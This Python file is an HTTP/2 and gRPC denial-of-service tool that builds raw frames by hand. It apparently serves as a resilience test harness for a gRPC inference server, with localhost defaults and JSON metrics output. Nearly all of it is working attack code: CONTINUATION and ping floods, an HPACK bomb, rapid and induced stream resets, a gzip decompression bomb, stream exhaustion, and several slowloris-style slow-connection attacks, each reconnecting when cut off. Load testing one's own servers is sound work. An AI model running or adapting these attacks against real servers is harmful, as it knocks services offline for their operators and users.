"""Attackers over raw HTTP/2 frames: what no library would send.

    http2_attacker.py ATTACK ADDRESS --path PATH [--seconds N]
                      [--tls-ca FILE] [--source ADDRESS] [--nice N]

Runs one attack of ATTACKS with all its connections until the time is over; a
connection that the server cuts is made again. Prints one line of JSON:
connections made, bytes sent, calls that the server refused or reset, and how
long the longest connection stood. Runs at nice 19 unless --nice says otherwise,
so that the processor time which it takes is the server's own."""

import argparse
import functools
import gzip
import json
import os
import socket
import ssl
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = 0, 1, 2, 3, 4
PING, WINDOW_UPDATE, CONTINUATION = 6, 8, 9
ACK = END_STREAM = 1
END_HEADERS = 4
HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE = 1, 4
FRAME_BYTES_MAX = 16384
WINDOW_BYTES = 65535
# The longest message that a server takes.
MESSAGE_BYTES = 4 << 20
# GenerateRequest: text "Once", max_tokens 2000, ignore_eos.
LONG_TURN = bytes.fromhex("0a0d" "1a04" "4f6e6365" "2a05" "08d00f" "6801")
# The server takes nothing any more: a flood stands still.
SEND_SECONDS = 1
SLOW_SECONDS = 0.5
SLOW_READERS = 2
UNFINISHED = 200


def frame(kind, flags, stream, payload=b""):
    return (struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) +
            struct.pack(">I", stream) + payload)


def setting(key, value):
    return struct.pack(">HI", key, value)


def hpack_integer(value, bits, first=0):
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([first | value])
    encoded = [first | limit]
    value -= limit
    while value >= 128:
        encoded.append(value & 127 | 128)
        value >>= 7
    return bytes(encoded + [value])


def hpack_string(text):
    return hpack_integer(len(text), 7) + text


def literal(name, value, indexed=False):
    """A header field; `indexed` puts it into the dynamic table too."""
    return bytes([0x40 if indexed else 0]) + hpack_string(name) + hpack_string(
        value)


def message(body, length=None):
    """A gRPC message that says it has `length` bytes."""
    length = len(body) if length is None else length
    return b"\0" + struct.pack(">I", length) + body


class Connection:
    """One connection, with a thread of its own."""

    def __init__(self, options):
        self.path = options.path.encode()
        self.scheme = b"\x87" if options.tls_ca else b"\x86"
        self.sent = 0
        self.refused = 0
        if options.address.startswith("unix:"):
            self.socket = socket.socket(socket.AF_UNIX)
            where = options.address[len("unix:"):]
        else:
            self.socket = socket.socket()
            self.socket.bind((options.source, 0))
            host, port = options.address.rsplit(":", 1)
            where = (socket.gethostbyname(host), int(port))
        self.socket.settimeout(SEND_SECONDS)
        self.socket.connect(where)
        self._tls_ca = options.tls_ca
        self._received = b""
        self.window = WINDOW_BYTES
        self.initial_window = WINDOW_BYTES
        self.windows = {}  # by open stream

    def start_tls(self):
        if not self._tls_ca:
            return
        context = ssl.create_default_context(cafile=self._tls_ca)
        context.set_alpn_protocols(["h2"])
        self.socket = context.wrap_socket(self.socket,
                                          server_hostname="localhost")

    def start(self, settings=b""):
        self.start_tls()
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        self.socket.sendall(data)
        self.sent += len(data)

    def request(self):
        """The headers of a call, as HPACK has them."""
        return (b"\x83" + self.scheme + b"\x04" + hpack_string(self.path) +
                b"\x01" + hpack_string(b"localhost") +
                literal(b"content-type", b"application/grpc") +
                literal(b"te", b"trailers"))

    def open(self, stream, flags=END_HEADERS):
        self.windows[stream] = self.initial_window
        self.send(frame(HEADERS, flags, stream, self.request()))

    def rest(self, seconds):
        """Does nothing but notice that the connection ends."""
        self.socket.settimeout(seconds)
        try:
            if not self.socket.recv(65536):
                raise ConnectionError("the server ended the connection")
        except TimeoutError:
            pass
        finally:
            self.socket.settimeout(SEND_SECONDS)

    def take(self, seconds):
        """Reads what came within `seconds`, and keeps the windows by it."""
        self.socket.settimeout(seconds)
        try:
            data = self.socket.recv(1 << 20)
        except TimeoutError:
            return
        finally:
            self.socket.settimeout(SEND_SECONDS)
        if not data:
            raise ConnectionError("the server ended the connection")
        self._received += data
        while len(self._received) >= 9:
            length = int.from_bytes(self._received[:3], "big")
            if len(self._received) < 9 + length:
                return
            kind, flags = self._received[3], self._received[4]
            stream = int.from_bytes(self._received[5:9], "big")
            payload = self._received[9:9 + length]
            self._received = self._received[9 + length:]
            self._take_frame(kind, flags, stream, payload)

    def _take_frame(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload), 6):
                key, value = struct.unpack(">HI", payload[at:at + 6])
                if key == INITIAL_WINDOW_SIZE:
                    for opened in self.windows:
                        self.windows[opened] += value - self.initial_window
                    self.initial_window = value
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif kind == WINDOW_UPDATE:
            more = int.from_bytes(payload, "big")
            if stream == 0:
                self.window += more
            elif stream in self.windows:
                self.windows[stream] += more
        elif kind == RST_STREAM or kind == HEADERS and flags & END_STREAM:
            self.refused += 1
            self.windows.pop(stream, None)


# An attack is a function of a connection that has just been made; it returns
# when it has nothing more to send. Floods do not read what the server answers.


def stream_ids():
    return iter(range(1, 1 << 31, 2))


def flood(connection, chunk):
    while True:
        connection.send(chunk)


def continuation_flood(connection):
    """Headers that never end."""
    connection.start()
    connection.send(frame(HEADERS, 0, 1, connection.request()))
    field = literal(b"x-flood", b"x" * 1000)
    flood(connection, frame(CONTINUATION, 0, 1, field * 16))


def empty_continuation_flood(connection):
    connection.start()
    connection.send(frame(HEADERS, 0, 1, connection.request()))
    flood(connection, frame(CONTINUATION, 0, 1) * 1000)


def huge_metadata(connection):
    """Calls with 256 KiB of metadata each."""
    connection.start()
    field = literal(b"x-huge", b"x" * 16000)
    for stream in stream_ids():
        connection.send(frame(HEADERS, 0, stream, connection.request()) +
                        frame(CONTINUATION, 0, stream, field) * 16 +
                        frame(CONTINUATION, END_HEADERS, stream))


def many_fields(connection):
    """Calls with 12,000 fields of metadata each."""
    connection.start()
    fields = literal(b"a", b"") * 4000
    for stream in stream_ids():
        connection.send(frame(HEADERS, 0, stream, connection.request()) +
                        frame(CONTINUATION, 0, stream, fields) * 3 +
                        frame(CONTINUATION, END_HEADERS, stream))


def hpack_bomb(connection):
    """A field of 4,000 bytes in the table, called 16,000 times by a byte."""
    connection.start()
    field = literal(b"x", b"x" * 3900, indexed=True)
    connection.send(frame(HEADERS, END_HEADERS, 1,
                          connection.request() + field))
    for stream in stream_ids():
        if stream > 1:
            connection.send(
                frame(HEADERS, 0, stream, connection.request()) +
                frame(CONTINUATION, END_HEADERS, stream, b"\xbe" * 16000))


def rapid_reset(connection):
    connection.start()
    request = connection.request()
    cancel = struct.pack(">I", 8)
    chunk = b""
    for stream in stream_ids():
        chunk += frame(HEADERS, END_HEADERS, stream, request)
        chunk += frame(RST_STREAM, 0, stream, cancel)
        if len(chunk) > 1 << 16:
            connection.send(chunk)
            chunk = b""


def induced_reset(connection):
    """Calls with an illegal field, each of which the server resets."""
    connection.start()
    request = connection.request() + literal(b"UPPER", b"x")
    chunk = b""
    for stream in stream_ids():
        chunk += frame(HEADERS, END_HEADERS, stream, request)
        if len(chunk) > 1 << 16:
            connection.send(chunk)
            chunk = b""


def ping_flood(connection):
    connection.start()
    flood(connection, frame(PING, 0, 0, b"attacker") * 1000)


def settings_flood(connection):
    connection.start()
    flood(connection,
          frame(SETTINGS, 0, 0, setting(HEADER_TABLE_SIZE, 4096)) * 1000)


def priority_flood(connection):
    connection.start()
    flood(connection, b"".join(
        frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 15))
        for stream in range(1, 2001, 2)))


def empty_data_flood(connection):
    """Frames without bytes, which no window holds up."""
    connection.start()
    connection.open(1)
    flood(connection, frame(DATA, 0, 1) * 1000)


def oversized_frame(connection):
    connection.start()
    connection.send(b"\xff\xff\xff" + bytes([HEADERS, END_HEADERS]) +
                    struct.pack(">I", 1))
    flood(connection, b"\0" * 65536)


def many_streams(connection):
    """As many calls at once as the server lets stand, and their beginning."""
    connection.start()
    for stream in stream_ids():
        connection.open(stream)
        if stream % 200 == 1:
            connection.take(0.001)
        if stream > 20000:
            break
    while True:
        connection.take(SLOW_SECONDS)


def unfinished_messages(connection):
    """Messages of 4 MiB, each without its last byte."""
    connection.start()
    connection.take(SLOW_SECONDS)
    left = {}
    head = message(b"", MESSAGE_BYTES - 1)
    for stream in range(1, 2 * UNFINISHED, 2):
        connection.open(stream)
        left[stream] = MESSAGE_BYTES - 2 + len(head)
    while True:
        moved = False
        for stream in [*connection.windows]:
            size = min(FRAME_BYTES_MAX, left[stream], connection.window,
                       connection.windows[stream])
            if size < len(head):
                continue
            body = b"x" * size
            if left[stream] == MESSAGE_BYTES - 2 + len(head):
                body = head + body[len(head):]
            connection.send(frame(DATA, 0, stream, body))
            left[stream] -= size
            connection.window -= size
            connection.windows[stream] -= size
            moved = True
        connection.take(0.001 if moved else SLOW_SECONDS)


@functools.cache
def bomb():
    """A message of 60 KB that inflates to 60 MiB."""
    return b"\1" + message(gzip.compress(b"a" * (60 << 20)))[1:]


def packed_messages(connection):
    data = bomb()
    connection.start()
    for stream in stream_ids():
        connection.windows[stream] = connection.initial_window
        connection.send(frame(HEADERS, END_HEADERS, stream,
                              connection.request() +
                              literal(b"grpc-encoding", b"gzip")))
        for begin in range(0, len(data), FRAME_BYTES_MAX):
            part = data[begin:begin + FRAME_BYTES_MAX]
            while stream in connection.windows and min(
                    connection.window, connection.windows[stream]) < len(part):
                connection.take(SLOW_SECONDS)
            if stream not in connection.windows:
                break  # refused by its headers
            connection.send(frame(DATA, 0, stream, part))
            connection.window -= len(part)
            connection.windows[stream] -= len(part)
        connection.take(0.001)


def slow_reader(connection):
    """Turns of 2,000 tokens whose reader has room for 100 bytes."""
    connection.start(setting(INITIAL_WINDOW_SIZE, 100))
    for stream in range(1, 2 * SLOW_READERS, 2):
        connection.open(stream)
        connection.send(frame(DATA, END_STREAM, stream, message(LONG_TURN)))
    while True:
        connection.take(SLOW_SECONDS)


def drip(connection, data):
    """A byte now and then."""
    for byte in data:
        connection.send(bytes([byte]))
        connection.rest(SLOW_SECONDS)
    while True:
        connection.rest(SLOW_SECONDS)


def slow_handshake(connection):
    """The beginning of TLS's, or of HTTP/2's where there is no TLS."""
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"x" * 500
    drip(connection, hello if connection.scheme == b"\x87" else PREFACE)


def slow_preface(connection):
    connection.start_tls()
    drip(connection, PREFACE)


def slow_continuation(connection):
    """Whole frames, slowly, that do not end the headers."""
    connection.start()
    connection.send(frame(HEADERS, 0, 1, connection.request()))
    while True:
        connection.send(frame(CONTINUATION, 0, 1, literal(b"a", b"")))
        connection.rest(SLOW_SECONDS)


def slow_body(connection):
    """A message whose bytes do not come, of a call of one message."""
    connection.start()
    connection.open(1)
    connection.send(frame(DATA, 0, 1, message(b"xx", 1000)))
    while 1 in connection.windows:
        connection.take(SLOW_SECONDS)


def silent(connection):
    """A connection that says nothing."""
    while True:
        connection.rest(SLOW_SECONDS)


# Connections at once.
ATTACKS = {
    continuation_flood: 2, empty_continuation_flood: 2, huge_metadata: 2,
    many_fields: 2, hpack_bomb: 2, rapid_reset: 2, induced_reset: 2,
    ping_flood: 2, settings_flood: 2, priority_flood: 2, empty_data_flood: 2,
    oversized_frame: 2, many_streams: 2, packed_messages: 2,
    unfinished_messages: 1,
    slow_reader: 1, slow_handshake: 4, slow_preface: 4, slow_continuation: 4,
    slow_body: 4, silent: 200,
}


class Attacker:
    """The connections of an attack, and what came of them."""

    def __init__(self, attack, options):
        self._attack = attack
        self._options = options
        self._lock = threading.Lock()
        self._begun = {}  # when, of each connection that stands
        self._sums = {"connections": 0, "sent": 0, "refused": 0}
        self._longest_s = 0

    def run(self):
        for _ in range(ATTACKS[self._attack]):
            threading.Thread(target=self._repeat, daemon=True).start()
        time.sleep(self._options.seconds)
        for connection in [*self._begun]:
            self._count(connection)
        return {**self._sums, "longest_s": round(self._longest_s, 2)}

    def _count(self, connection):
        """Once for each connection."""
        with self._lock:
            begun = self._begun.pop(connection, None)
            if begun is None:
                return
            self._longest_s = max(self._longest_s, time.monotonic() - begun)
            self._sums["connections"] += 1
            self._sums["sent"] += connection.sent
            self._sums["refused"] += connection.refused

    def _repeat(self):
        while True:
            try:
                connection = Connection(self._options)
            except OSError:
                # The server may take no more.
                time.sleep(0.1)
                continue
            self._begun[connection] = time.monotonic()
            try:
                self._attack(connection)
            except OSError:
                pass
            self._count(connection)
            connection.socket.close()
            # One that is refused at once costs the server little, and this
            # machine much.
            time.sleep(0.01)


def main():
    by_name = {attack.__name__: attack for attack in ATTACKS}
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=by_name)
    parser.add_argument("address")
    parser.add_argument("--path", required=True)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--tls-ca")
    parser.add_argument("--source", default="127.0.0.1",
                        help="the address to come from")
    parser.add_argument("--nice", type=int, default=19)
    options = parser.parse_args()
    os.nice(options.nice)
    attacker = Attacker(by_name[options.attack], options)
    print(json.dumps(attacker.run()), flush=True)
    # Its threads are in the middle of something.
    os._exit(0)


if __name__ == "__main__":
    sys.exit(main())
